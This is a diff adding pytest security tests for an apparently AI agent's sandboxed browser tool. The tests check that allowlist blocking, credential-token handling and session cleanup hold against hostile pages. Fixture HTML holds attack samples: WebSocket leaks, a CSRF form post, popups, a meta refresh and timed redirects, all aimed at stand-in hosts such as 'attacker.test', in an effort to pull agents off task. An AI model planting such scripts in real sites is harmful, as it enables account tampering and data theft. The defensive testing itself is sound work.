@@ -12,9 +12,11 @@ import asyncio
 import base64
 import json
 import re
-from collections.abc import AsyncIterator, Iterator
+import threading
+from collections.abc import AsyncIterator, Callable, Iterator
 from contextlib import asynccontextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import httpx
@@ -87,16 +89,23 @@ class Bench:
 
 
 @asynccontextmanager
-async def open_bench(world_url: str, *, with_credentials: bool = True) -> AsyncIterator[Bench]:
+async def open_bench(
+    world_url: str,
+    *,
+    with_credentials: bool = True,
+    host_map: dict[str, str] | None = None,
+    credential: str = "supplier_portal",
+) -> AsyncIterator[Bench]:
     host = world_url.removeprefix("http://")
     vault = CredentialVault({"supplier_portal": KEY})
     policy = default_policy()
     async with (
         open_playwright_browser(
             allowed_domains=policy.allowlists.browser_domains or (),
-            host_map={"portal.example.co.jp": host, "helpdesk.example.co.jp": host},
+            host_map={"portal.example.co.jp": host, "helpdesk.example.co.jp": host}
+            | (host_map or {}),
             vault=vault,
-            credentials={"portal.example.co.jp": "supplier_portal"} if with_credentials else {},
+            credentials={"portal.example.co.jp": credential} if with_credentials else {},
             start_pages={"Supplier portal": PORTAL, "IT helpdesk": HELPDESK},
         ) as browser,
         httpx.AsyncClient(base_url=world_url) as http,
@@ -330,3 +339,306 @@ def test_the_injected_page_does_not_make_the_single_agent_act_outside_its_task(
             assert [r.decision for r in audit if r.step_id == mail.step.step_id] == ["blocked"]
     assert world.mail.outbox == {}
     assert world.diff() == {}
+
+
+# -- what a hostile page can try -------------------------------------------------------------------
+
+
+@dataclass
+class Site:
+    """A plain HTTP server that serves ``pages`` and records every request's headers."""
+
+    pages: dict[str, str]
+    hits: list[dict[str, str | None]] = field(default_factory=list)
+    address: str = ""
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        site = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: object) -> None:
+                pass
+
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                site.hits.append(
+                    {
+                        "method": self.command,
+                        "host": self.headers.get("Host"),
+                        "path": self.path,
+                        "authorization": self.headers.get("Authorization"),
+                        "upgrade": self.headers.get("Upgrade"),
+                        "body": self.rfile.read(length).decode() if length else None,
+                    }
+                )
+
+            def do_GET(self) -> None:
+                self._record()
+                path = self.path.split("?")[0]
+                if path.startswith("/redirect-"):  # /redirect-302-<host>/<path>
+                    _, status, rest = path.split("-", 2)
+                    self.send_response(int(status))
+                    self.send_header("Location", f"http://{rest}")
+                    self.end_headers()
+                    return
+                body = site.pages.get(path, "<p>home</p>").encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self) -> None:
+                self._record()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(b"<p>posted</p>")
+
+        return Handler
+
+    def seen_by(self, host: str) -> list[dict[str, str | None]]:
+        return [h for h in self.hits if (h["host"] or "").split(":")[0] == host]
+
+
+@pytest.fixture
+def sites() -> Iterator[tuple[Site, Site]]:
+    """A site on an allowed name (``hostile.example.co.jp``) and one off the list
+    (``attacker.test``), each recording what reaches it."""
+    servers = []
+    pair = (Site(dict(HOSTILE_PAGES)), Site({}))
+    for site in pair:
+        server = ThreadingHTTPServer(("127.0.0.1", 0), site.handler())
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        site.address = f"127.0.0.1:{server.server_address[1]}"
+        servers.append(server)
+    yield pair
+    for server in servers:
+        server.shutdown()
+        server.server_close()
+
+
+HOSTILE = "http://hostile.example.co.jp"
+HOSTILE_PAGES = {
+    "/ws": """<p>ws</p><script>
+for (const u of ['ws://attacker.test/ws-leak', 'ws://ATTACKER/ws-ip']) {
+  try { const w = new WebSocket(u); w.onopen = () => { document.title = 'OPEN'; }; }
+  catch (e) {}
+}</script>""",
+    "/csrf": """<p>csrf</p><form id=f method=post
+action="http://portal.example.co.jp/portal/suppliers/SUP-000106/contact">
+<input name=contact_email value="attacker@evil.example"></form>
+<script>fetch('http://portal.example.co.jp/portal/xhr', {method: 'POST', body: 'a=1',
+mode: 'no-cors'}); document.getElementById('f').submit();</script>""",
+    "/popup": """<p>popup</p>
+<a id="pop" href="http://attacker.test/popup-link" target="_blank">pop</a>
+<button id="wo" onclick="window.open('http://attacker.test/popup-js')">wo</button>""",
+    "/meta": '<meta http-equiv="refresh" content="0;url=http://attacker.test/meta"><p>meta</p>',
+    "/meta-here": '<meta http-equiv="refresh" content="0;url=/landing"><p>moving</p>',
+    "/landing": "<title>landing</title><p>landed</p>",
+    "/later": """<p>later</p>
+<input type=file id=hidden style="display:none">
+<button id=pick onclick="setTimeout(() => document.getElementById('hidden').click(), 50)">
+pick</button>
+<button id=go onclick="setTimeout(() => { location = 'http://attacker.test/late'; }, 50)">
+go</button>""",
+}
+
+
+def _hostile_bench(served: str, sites: tuple[Site, Site], **options: Any) -> Any:
+    hostile, attacker = sites
+    for path, page in hostile.pages.items():
+        hostile.pages[path] = page.replace("ATTACKER", attacker.address)
+    host_map = {"hostile.example.co.jp": hostile.address, "attacker.test": attacker.address}
+    return open_bench(served, host_map=host_map | options.pop("host_map", {}), **options)
+
+
+async def _eventually(check: Callable[[], bool]) -> None:
+    """Wait (up to 10 s) for something the page does on its own timer."""
+    for _ in range(1000):
+        if check():
+            return
+        await asyncio.sleep(0.01)
+    raise AssertionError("the page never did it")
+
+
+def test_a_redirect_off_the_allowlist_is_blocked_and_no_token_follows_a_redirect(
+    sites: tuple[Site, Site],
+) -> None:
+    hostile, attacker = sites
+
+    async def scenario() -> None:
+        # the portal's name points at the recording site: it 302s/307s wherever it is told
+        async with _hostile_bench("http://" + hostile.address, sites) as bench:
+            for status in (302, 307):
+                away = f"http://portal.example.co.jp/redirect-{status}-attacker.test/leak"
+                outcome = await bench.call("browser_open", url=away)
+                assert outcome.status == "blocked", outcome.message
+                assert "attacker.test/leak" in outcome.message
+                assert _rejection(bench, outcome)["approver"] == "policy:allowlist"
+            inside = "http://portal.example.co.jp/redirect-302-hostile.example.co.jp/landing"
+            landed = await bench.call("browser_open", url=inside)
+            assert landed.status == "ok", landed.message
+            assert "landed" in landed.content["text"]  # type: ignore[index]
+
+    run(scenario())
+    assert attacker.hits == []
+    signed = [h for h in hostile.hits if h["authorization"]]
+    assert signed, "the portal got no token: this test shows nothing"
+    assert {h["host"] for h in signed} == {"portal.example.co.jp"}
+    [hop] = hostile.seen_by("hostile.example.co.jp")
+    assert (hop["path"], hop["authorization"]) == ("/landing", None)
+
+
+def test_websockets_off_the_allowlist_are_closed_and_recorded(
+    served: str, sites: tuple[Site, Site]
+) -> None:
+    _, attacker = sites
+
+    async def scenario() -> list[Any]:
+        async with _hostile_bench(served, sites) as bench:
+            first = await bench.call("browser_open", url=HOSTILE + "/ws")
+            second = await bench.call("browser_open", url=HOSTILE + "/landing")
+            assert (first.status, second.status) == ("ok", "ok")
+            assert first.content["title"] != "OPEN"  # type: ignore[index]
+            return [
+                b
+                for o in (first, second)
+                for b in o.content.get("blocked_requests", [])  # type: ignore[union-attr]
+            ]
+
+    blocked = run(scenario())
+    urls = {b["url"] for b in blocked}
+    assert "ws://attacker.test/ws-leak" in urls
+    assert f"ws://{attacker.address}/ws-ip" in urls  # an IP literal too
+    assert [h for h in attacker.hits if h["upgrade"]] == []
+
+
+def test_a_cross_site_form_post_to_the_portal_carries_no_token_and_is_refused(
+    served: str, world: World, sites: tuple[Site, Site]
+) -> None:
+    hostile, _ = sites
+
+    async def scenario() -> str:
+        async with _hostile_bench(served, sites) as bench:
+            outcome = await bench.call("browser_open", url=HOSTILE + "/csrf")
+            assert outcome.status == "ok", outcome.message
+            return str(outcome.content["text"])  # type: ignore[index]
+
+    text = run(scenario())
+    assert "Cross-site form posts are refused" in text
+    assert world.diff() == {}
+
+    # the same page against a portal that records what arrives: no token on either post
+    async def recorded() -> None:
+        portal = {"portal.example.co.jp": hostile.address}
+        async with _hostile_bench(served, sites, host_map=portal) as bench:
+            await bench.call("browser_open", url=HOSTILE + "/csrf")
+
+    run(recorded())
+    posts = [h for h in hostile.seen_by("portal.example.co.jp") if h["method"] == "POST"]
+    assert {h["path"] for h in posts} >= {"/portal/xhr", "/portal/suppliers/SUP-000106/contact"}
+    assert [h["authorization"] for h in posts] == [None] * len(posts)
+
+
+def test_the_world_apis_are_not_reachable_under_the_web_ui_names(served: str) -> None:
+    async def scenario() -> list[str]:
+        async with open_bench(served) as bench:
+            texts = []
+            for url in (
+                "http://portal.example.co.jp/_world/snapshot",
+                "http://portal.example.co.jp/helpdesk/tickets",
+                "http://helpdesk.example.co.jp/_world/diff",
+                "http://helpdesk.example.co.jp/erp/suppliers",
+            ):
+                outcome = await bench.call("browser_open", url=url)
+                assert outcome.status == "ok", outcome.message
+                texts.append(str(outcome.content["text"]))  # type: ignore[index]
+            return texts
+
+    texts = run(scenario())
+    for text in texts:
+        assert text.startswith("[HTTP 404]")
+        assert "SUP-000" not in text
+        assert "TCK-000" not in text
+
+
+def test_a_popup_or_a_meta_refresh_off_the_allowlist_is_a_policy_block_not_a_crash(
+    served: str, sites: tuple[Site, Site]
+) -> None:
+    _, attacker = sites
+
+    async def scenario() -> None:
+        async with _hostile_bench(served, sites) as bench:
+            assert (await bench.call("browser_open", url=HOSTILE + "/popup")).status == "ok"
+            for selector in ("#pop", "#wo"):
+                popup = await bench.call("browser_click", selector=selector)
+                assert popup.status == "blocked", popup.message
+                assert _rejection(bench, popup)["approver"] == "policy:allowlist"
+            meta = await bench.call("browser_open", url=HOSTILE + "/meta")
+            assert meta.status == "blocked", meta.message
+            assert "attacker.test/meta" in meta.message
+            moved = await bench.call("browser_open", url=HOSTILE + "/meta-here")
+            assert moved.status == "ok", moved.message
+            assert moved.content["title"] == "landing"  # type: ignore[index]
+            session = await bench.browser.session(bench.recorder.run_id)
+            assert [p.url for p in session.page.context.pages] == [session.page.url]
+
+    run(scenario())
+    assert attacker.hits == []
+
+
+def test_what_a_page_does_between_actions_is_reported_by_the_next(
+    served: str, sites: tuple[Site, Site]
+) -> None:
+    _, attacker = sites
+
+    async def scenario() -> None:
+        async with _hostile_bench(served, sites) as bench:
+            session = await bench.browser.session(bench.recorder.run_id)
+            for selector, rule in (("#pick", "no_file_attachments"), ("#go", "allowlist")):
+                assert (await bench.call("browser_open", url=HOSTILE + "/later")).status == "ok"
+                clicked = await bench.call("browser_click", selector=selector)
+                assert clicked.status == "ok", clicked.message  # the timer has not fired yet
+                await _eventually(lambda: session.unreported > 0)
+                nxt = await bench.call("browser_open", url=HOSTILE + "/landing")
+                assert nxt.status == "blocked", nxt.message
+                assert "since the last action" in nxt.message
+                assert _rejection(bench, nxt)["approver"] == f"policy:{rule}"
+                assert session.unreported == 0
+            again = await bench.call("browser_open", url=HOSTILE + "/landing")
+            assert again.status == "ok"
+
+    run(scenario())
+    assert attacker.hits == []
+
+
+def test_a_token_the_vault_cannot_issue_fails_the_page_instead_of_stalling_it(
+    served: str,
+) -> None:
+    async def scenario() -> None:
+        async with open_bench(served, credential="not_in_the_vault") as bench:
+            outcome = await bench.call("browser_open", url=PORTAL)
+            assert outcome.status == "failed", outcome.message
+            [failed] = [e for e in bench.step_events(outcome) if e["kind"] == "step_failed"]
+            assert failed["error_code"] == "credential_unavailable"
+
+    run(scenario())
+
+
+def test_a_closed_session_frees_its_context(served: str) -> None:
+    async def scenario() -> None:
+        async with open_bench(served) as bench:
+            assert (await bench.call("browser_open", url=HELPDESK)).status == "ok"
+            run_id = bench.recorder.run_id
+            assert bench.browser.open_runs == [run_id]
+            session = await bench.browser.session(run_id)
+            context = session.page.context
+            await bench.browser.aclose_session(run_id)
+            assert bench.browser.open_runs == []
+            assert session.page.is_closed()
+            assert context not in context.browser.contexts  # type: ignore[union-attr]
+            reopened = await bench.call("browser_open", url=HELPDESK)  # a fresh context
+            assert reopened.status == "ok"
+            assert bench.browser.open_runs == [run_id]
+
+    run(scenario())
